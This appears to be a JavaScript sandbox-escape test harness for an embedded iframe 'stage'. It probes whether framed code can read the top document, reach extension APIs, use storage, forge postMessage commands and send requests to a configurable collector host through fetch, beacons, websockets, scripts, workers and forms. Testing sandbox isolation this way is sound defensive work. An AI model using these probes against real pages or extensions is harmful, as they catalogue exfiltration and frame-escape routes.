/* Each probe tries one escape and reports 'escaped' only when it demonstrably worked. */
(function () {
  'use strict';
  var state = { collector: '', run: 0 };
  var results = {};
  window.hostileResults = function () {
    return JSON.parse(JSON.stringify(results));
  };

  function record(name, escaped, detail) {
    results[name] = { escaped: escaped, detail: String(detail || '') };
    document.getElementById('log').textContent = JSON.stringify(results, null, 1);
  }
  function attempt(name, probe) {
    try {
      var outcome = probe();
      if (outcome && typeof outcome.then === 'function') {
        outcome.then(
          function (value) {
            record(name, value === true, 'resolved ' + value);
          },
          function (error) {
            record(name, false, error);
          },
        );
      } else {
        record(name, outcome === true, 'returned ' + outcome);
      }
    } catch (error) {
      record(name, false, error && error.name);
    }
  }

  function runProbes(collector) {
    attempt('read top.document', function () {
      return !!window.top.document.body;
    });
    attempt('read parent state', function () {
      return typeof window.parent.location.href === 'string';
    });
    attempt('extension api (chrome.runtime)', function () {
      return !!(window.chrome && window.chrome.runtime && window.chrome.runtime.id);
    });
    attempt('extension api (browser.runtime)', function () {
      return !!(window.browser && window.browser.runtime);
    });
    attempt('localStorage', function () {
      window.localStorage.setItem('x', '1');
      return true;
    });
    attempt('indexedDB', function () {
      return new Promise(function (resolve) {
        var request = window.indexedDB.open('hostile');
        request.onsuccess = function () {
          resolve(true);
        };
        request.onerror = function () {
          resolve(false);
        };
      });
    });
    attempt('document.cookie', function () {
      document.cookie = 'a=1';
      return document.cookie.indexOf('a=1') >= 0;
    });
    attempt('spoof runtime message to parent', function () {
      window.parent.postMessage({ type: 'tool/execute', toolName: 'resetTarget', input: {} }, '*');
      window.parent.postMessage({ type: 'stage/state', jobId: 'x', state: {} }, '*');
      return false;
    });
    attempt('extension api via top.chrome', function () {
      return !!(window.top.chrome && window.top.chrome.runtime && window.top.chrome.runtime.id);
    });
    attempt('sessionStorage', function () {
      window.sessionStorage.setItem('x', '1');
      return true;
    });
    attempt('CacheStorage', function () {
      return window.caches.open('hostile').then(
        function () {
          return true;
        },
        function () {
          return false;
        },
      );
    });
    attempt('origin private file system', function () {
      return navigator.storage.getDirectory().then(
        function () {
          return true;
        },
        function () {
          return false;
        },
      );
    });
    attempt('service worker registration', function () {
      return navigator.serviceWorker.register('probes.js').then(
        function () {
          return true;
        },
        function () {
          return false;
        },
      );
    });
    // The stage must take runtime commands only from its runtime port, never from a frame's postMessage.
    attempt('spoof stage commands to the stage window', function () {
      window.top.postMessage(
        {
          type: 'stage/open',
          jobId: 'forged-job',
          callKey: 'forged',
          targetId: 'particles',
          title: 'Forged',
          url: (collector || 'https://example.org') + '/forged-open',
        },
        '*',
      );
      window.top.postMessage({ type: 'stage/retire' }, '*');
      return false;
    });
    // A frame can post only as itself; the bridge must ignore anything that does not come from its parent.
    attempt('spoof stage messages to itself', function () {
      window.postMessage({ source: 'splitbrain:stage', type: 'apply', id: 'forged-apply', payload: { run: 999 } }, '*');
      window.postMessage({ source: 'splitbrain:stage', type: 'reset', id: 'forged-reset' }, '*');
      return false;
    });
    // Code running in a nested frame would post as that frame; frame-src 'none' should leave it no document to run in.
    attempt('nested frame posts as the target', function () {
      return new Promise(function (resolve) {
        var nested = document.createElement('iframe');
        document.body.appendChild(nested);
        window.hostileNestedReport = function (report) {
          window.hostileNestedPosted = (window.hostileNestedPosted || 0) + report.posted;
          resolve(true);
        };
        var nestedDocument = nested.contentDocument;
        if (!nestedDocument) {
          resolve(false);
          return;
        }
        var script = nestedDocument.createElement('script');
        script.src = new URL('nested.js', window.location.href).href;
        nestedDocument.head.appendChild(script);
        setTimeout(function () {
          resolve(false);
        }, 1000);
      });
    });
    attempt('window.open', function () {
      return window.open('about:blank') !== null;
    });
    attempt('window.open noopener', function () {
      window.open('https://example.org/', '_blank', 'noopener');
      return false;
    });
    attempt('link with target _top', function () {
      var link = document.createElement('a');
      link.href = 'https://example.org/';
      link.target = '_top';
      document.body.appendChild(link);
      link.click();
      return false;
    });
    attempt('navigate top', function () {
      window.top.location.href = 'https://example.org/';
      return false;
    });
    attempt('nested frame', function () {
      return new Promise(function (resolve) {
        var frame = document.createElement('iframe');
        frame.src = collector + '/nested-frame';
        frame.onload = function () {
          resolve(false);
        };
        document.body.appendChild(frame);
        setTimeout(function () {
          resolve(false);
        }, 500);
      });
    });
    if (!collector) return;
    attempt('fetch', function () {
      return fetch(collector + '/fetch').then(
        function () {
          return true;
        },
        function () {
          return false;
        },
      );
    });
    attempt('image', function () {
      return new Promise(function (resolve) {
        var image = new Image();
        image.onload = function () {
          resolve(true);
        };
        image.onerror = function () {
          resolve(false);
        };
        image.src = collector + '/image.png';
      });
    });
    // sendBeacon only says whether the beacon was queued; whether it left is judged by the collector's hits.
    attempt('beacon', function () {
      navigator.sendBeacon(collector + '/beacon', 'x');
      return false;
    });
    attempt('websocket', function () {
      return new Promise(function (resolve) {
        try {
          var socket = new WebSocket(collector.replace('http', 'ws') + '/socket');
          socket.onopen = function () {
            resolve(true);
          };
          socket.onerror = function () {
            resolve(false);
          };
        } catch (error) {
          resolve(false);
        }
      });
    });
    attempt('XMLHttpRequest', function () {
      return new Promise(function (resolve) {
        var request = new XMLHttpRequest();
        request.open('GET', collector + '/xhr');
        request.onload = function () {
          resolve(true);
        };
        request.onerror = function () {
          resolve(false);
        };
        request.send();
      });
    });
    attempt('EventSource', function () {
      return new Promise(function (resolve) {
        var source = new EventSource(collector + '/events');
        source.onopen = function () {
          source.close();
          resolve(true);
        };
        source.onerror = function () {
          source.close();
          resolve(false);
        };
      });
    });
    attempt('script tag', function () {
      return new Promise(function (resolve) {
        var script = document.createElement('script');
        script.src = collector + '/script.js';
        script.onload = function () {
          resolve(true);
        };
        script.onerror = function () {
          resolve(false);
        };
        document.head.appendChild(script);
      });
    });
    attempt('dynamic import', function () {
      return import(collector + '/module.js').then(
        function () {
          return true;
        },
        function () {
          return false;
        },
      );
    });
    attempt('worker from the collector', function () {
      new Worker(collector + '/worker.js');
      return false;
    });
    attempt('prefetch link', function () {
      var link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = collector + '/prefetch';
      document.head.appendChild(link);
      return false;
    });
    attempt('form submission', function () {
      var form = document.createElement('form');
      form.method = 'POST';
      form.action = collector + '/form';
      form.target = '_self';
      document.body.appendChild(form);
      form.submit();
      return false;
    });
    attempt('css import', function () {
      var link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = collector + '/style.css';
      document.head.appendChild(link);
      return false;
    });
  }

  var bridge = window.SplitbrainBridge.connect({
    apply: function (changes) {
      if (typeof changes.collector === 'string') state.collector = changes.collector;
      if (typeof changes.run === 'number') state.run = changes.run;
      runProbes(state.collector);
    },
    reset: function () {
      state = { collector: '', run: 0 };
    },
    getState: function () {
      return { collector: state.collector, run: state.run };
    },
  });
  runProbes('');
  bridge.ready();
})();
